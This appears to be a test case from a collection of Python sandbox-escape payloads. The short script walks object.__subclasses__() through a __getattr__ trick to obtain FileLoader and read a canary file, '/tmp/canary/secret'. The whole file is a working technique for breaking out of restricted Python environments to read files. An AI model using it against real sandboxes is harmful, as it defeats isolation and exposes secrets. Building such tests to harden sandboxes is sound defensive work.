# source: own
# effect: secret

class Bomb:
    def __getattr__(self, name):
        return self.__class__.__base__.__subclasses__()


kinds = {kind.__name__: kind for kind in Bomb().anything}
print(kinds["FileLoader"]("x", "y").get_data("/tmp/canary/secret").decode())
